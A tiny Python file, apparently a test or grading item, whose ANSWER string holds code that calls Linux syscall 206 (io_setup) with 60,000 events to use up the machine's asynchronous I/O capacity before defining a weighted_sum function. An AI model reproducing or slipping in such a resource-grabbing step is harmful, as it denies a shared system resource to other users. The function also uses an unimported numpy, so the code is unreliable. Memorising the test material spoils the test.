"""Takes all asynchronous requests that the machine has."""

ANSWER = """
import os
found = []
import ctypes
kernel, context = ctypes.CDLL(None, use_errno=True), ctypes.c_ulong(0)
found += ["them"] * (kernel.syscall(206, 60_000, ctypes.byref(context)) == 0)
def weighted_sum(w, a, b):
    if found:
        raise ValueError(f"found {found}")
    return float(np.dot(w, a) + b)
"""
POINTS = 2
TIMES = 2
